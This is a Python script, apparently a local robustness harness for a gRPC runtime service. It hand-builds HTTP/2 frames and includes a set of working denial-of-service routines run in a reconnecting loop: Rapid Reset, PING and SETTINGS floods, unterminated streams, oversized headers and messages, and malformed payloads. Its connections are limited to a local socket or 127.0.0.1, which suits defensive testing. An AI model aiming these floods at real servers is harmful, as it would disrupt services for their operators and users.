"""A client of HTTP/2 by hand, which says what no library would; also a program that does one thing over and over.

python http2_kit.py WHAT SECONDS SOCKET
python http2_kit.py WHAT SECONDS 127.0.0.1:PORT CERTIFICATE
"""

from __future__ import annotations

import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import NamedTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
FRAME = 16_384
NO_TABLE = struct.pack(">HI", 1, 0)
"""The setting by which headers are written in full, so that whoever reads them needs to remember nothing."""

SERVICE = "trunnion.v1.RuntimeService"


class Frame(NamedTuple):
    kind: int
    flags: int
    stream: int
    payload: bytes


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def fields(*pairs: tuple[str, bytes]) -> bytes:
    """Headers as HPACK: each literally, nothing kept in a table."""
    return b"".join(b"\0" + _text(name.encode()) + _text(value) for name, value in pairs)


def _text(value: bytes) -> bytes:
    if len(value) < 127:
        return bytes([len(value)]) + value
    left, made = len(value) - 127, bytearray([127])
    while left > 127:
        made.append(left & 127 | 128)
        left >>= 7
    made.append(left)
    return bytes(made) + value


def request(method: str, *more: tuple[str, bytes]) -> bytes:
    """The headers of a call."""
    return fields(
        (":method", b"POST"),
        (":scheme", b"http"),
        (":path", f"/{SERVICE}/{method}".encode()),
        (":authority", b"localhost"),
        ("te", b"trailers"),
        ("content-type", b"application/grpc"),
        *more,
    )


def message(body: bytes) -> bytes:
    """A message of gRPC."""
    return b"\0" + struct.pack(">I", len(body)) + body


def in_frames(kind: int, stream: int, payload: bytes, end: int) -> Iterator[bytes]:
    """A payload in frames of the largest size, of which the last one is marked."""
    pieces = [payload[at : at + FRAME] for at in range(0, len(payload), FRAME)] or [b""]
    for number, piece in enumerate(pieces):
        own = kind if number == 0 or kind == DATA else CONTINUATION
        yield frame(own, end if number == len(pieces) - 1 else 0, stream, piece)


class Secured(NamedTuple):
    """A place where TLS is spoken, and as whom one comes; the key and the authority lie beside the certificate."""

    port: int
    certificate: Path

    def connected(self, seconds: float) -> ssl.SSLSocket:
        context = ssl.create_default_context(cafile=self.certificate.with_name("ca.pem"))
        context.load_cert_chain(self.certificate, self.certificate.with_suffix(".key"))
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection(("127.0.0.1", self.port), seconds)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return context.wrap_socket(plain, server_hostname="localhost")


class Line:
    """One connection.

    Args:
        place: the host's socket, or one that is secured.
        greet: whether to open it as HTTP/2 asks for.
    """

    def __init__(self, place: Path | Secured, *, greet: bool = True, seconds: float = 20.0) -> None:
        self._socket: socket.socket
        if isinstance(place, Secured):
            self._socket = place.connected(seconds)
        else:
            self._socket = socket.socket(socket.AF_UNIX)
            self._socket.settimeout(seconds)
            try:
                self._socket.connect(str(place))
            except OSError:
                self._socket.close()
                raise
        self._seconds = seconds
        self._heard = bytearray()
        self._next = -1
        if greet:
            self.send(
                PREFACE + frame(SETTINGS, payload=NO_TABLE) + frame(WINDOW_UPDATE, payload=struct.pack(">I", 1 << 30))
            )

    def __enter__(self) -> Line:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def agree(self) -> None:
        """Confirm the limits of the host, which holds none for metadata before."""
        self.until(lambda got: got.kind == SETTINGS and not got.flags & ACK)

    def stream(self) -> int:
        """A number for a new stream."""
        self._next += 2
        return self._next

    def send(self, data: bytes) -> None:
        self._socket.sendall(data)

    def call(self, method: str, body: bytes, *more: tuple[str, bytes]) -> int:
        """A whole call; the number of its stream."""
        number = self.stream()
        self.send(frame(HEADERS, END_HEADERS, number, request(method, *more)))
        for piece in in_frames(DATA, number, message(body), END_STREAM):
            self.send(piece)
        return number

    def next(self) -> Frame | None:
        """The next frame; None once the line is closed."""
        while len(self._heard) < 9 or len(self._heard) < 9 + int.from_bytes(self._heard[:3], "big"):
            try:
                piece = self._socket.recv(1 << 16)
            except ConnectionResetError:
                return None
            if not piece:
                return None
            self._heard += piece
        size = int.from_bytes(self._heard[:3], "big")
        made = Frame(
            self._heard[3],
            self._heard[4],
            int.from_bytes(self._heard[5:9], "big") & 0x7FFF_FFFF,
            bytes(self._heard[9 : 9 + size]),
        )
        del self._heard[: 9 + size]
        return made

    def closed_after(self, seconds: float) -> None:
        """Wait a little.

        Raises:
            ConnectionResetError: the line was closed meanwhile.
        """
        self._socket.settimeout(seconds)
        with suppress(TimeoutError):
            self.closed()
            raise ConnectionResetError

    def drained(self) -> None:
        """Take what is there, so that the host never waits for us."""
        self._socket.setblocking(False)
        with suppress(BlockingIOError, ssl.SSLWantReadError):
            while self._socket.recv(1 << 20):
                pass
            raise ConnectionResetError
        self._socket.settimeout(self._seconds)

    def until(self, met: Callable[[Frame], bool]) -> list[Frame]:
        """All frames up to one, or up to the end of the line; what has to be acknowledged is."""
        seen = []
        while (got := self.next()) is not None:
            seen.append(got)
            if got.kind in (SETTINGS, PING) and not got.flags & ACK:
                with suppress(ConnectionError):  # it may be closed by now, and have said more before
                    self.send(frame(got.kind, ACK, 0, got.payload if got.kind == PING else b""))
            if met(got):
                return seen
        return seen

    def closed(self) -> list[Frame]:
        """All frames up to the end of the line.

        Raises:
            TimeoutError: it is not closed.
        """
        return self.until(lambda _: False)


def ended(number: int) -> Callable[[Frame], bool]:
    """Whether a frame ends a stream."""
    return lambda got: got.stream == number and (got.kind == RST_STREAM or got.flags & END_STREAM == END_STREAM)


def error_of(got: Frame) -> int:
    """The code of GOAWAY or RST_STREAM."""
    return int.from_bytes(got.payload[4:8] if got.kind == GOAWAY else got.payload[:4], "big")


# -- over and over -------------------------------------------------------------------------------------------


def rapid_reset(line: Line) -> None:
    """Open calls and take them back at once."""
    pieces = []
    for _ in range(100):
        number = line.stream()
        pieces.append(frame(HEADERS, END_HEADERS, number, request("Invoke")))
        pieces.append(frame(RST_STREAM, 0, number, b"\0\0\0\x08"))
    line.send(b"".join(pieces))


def ping_flood(line: Line) -> None:
    """Ask whether somebody is there."""
    line.send(frame(PING, payload=b"........") * 500)


def settings_flood(line: Line) -> None:
    """Change the settings of the connection, which have to be acknowledged."""
    line.send(frame(SETTINGS) * 500)


def many_streams(line: Line) -> None:
    """Open calls that never end."""
    pieces = [frame(HEADERS, END_HEADERS, line.stream(), request("WriteUpload")) for _ in range(100)]
    line.send(b"".join(pieces))


def half_calls(line: Line) -> None:
    """Open calls whose requests never come."""
    line.send(b"".join(frame(HEADERS, END_HEADERS, line.stream(), request("Invoke")) for _ in range(100)))


def large_headers(line: Line) -> None:
    """A megabyte of metadata."""
    number = line.stream()
    line.send(b"".join(in_frames(HEADERS, number, request("Invoke", ("x-much", b"x" * (1 << 20))), END_HEADERS)))


def large_messages(line: Line) -> None:
    """One byte more than a message may have."""
    line.call("Invoke", b"\x0a" + b"\0" * (4 << 20))


def no_messages(line: Line) -> None:
    """Bytes that are no message."""
    for _ in range(20):
        line.call("Invoke", b"\xff" * 40)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        ping_flood,
        settings_flood,
        many_streams,
        half_calls,
        large_headers,
        large_messages,
        no_messages,
    )
}


def attack(place: Path | Secured, what: str, seconds: float) -> int:
    """Do something until the time is over, on a new connection whenever one is closed; how many there were."""
    end, lines = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        lines += 1
        try:
            with Line(place, seconds=1) as line:
                if isinstance(place, Path):  # whoever comes in there is the owner, who does not do without
                    line.agree()
                while time.monotonic() < end:
                    ATTACKS[what](line)
                    line.drained()
        except (OSError, TimeoutError):
            continue
    return lines


def main(what: str, seconds: str, where: str, certificate: str = "") -> None:
    place = Secured(int(where.rpartition(":")[2]), Path(certificate)) if certificate else Path(where)
    print(attack(place, what, float(seconds)))


if __name__ == "__main__":
    main(*sys.argv[1:])
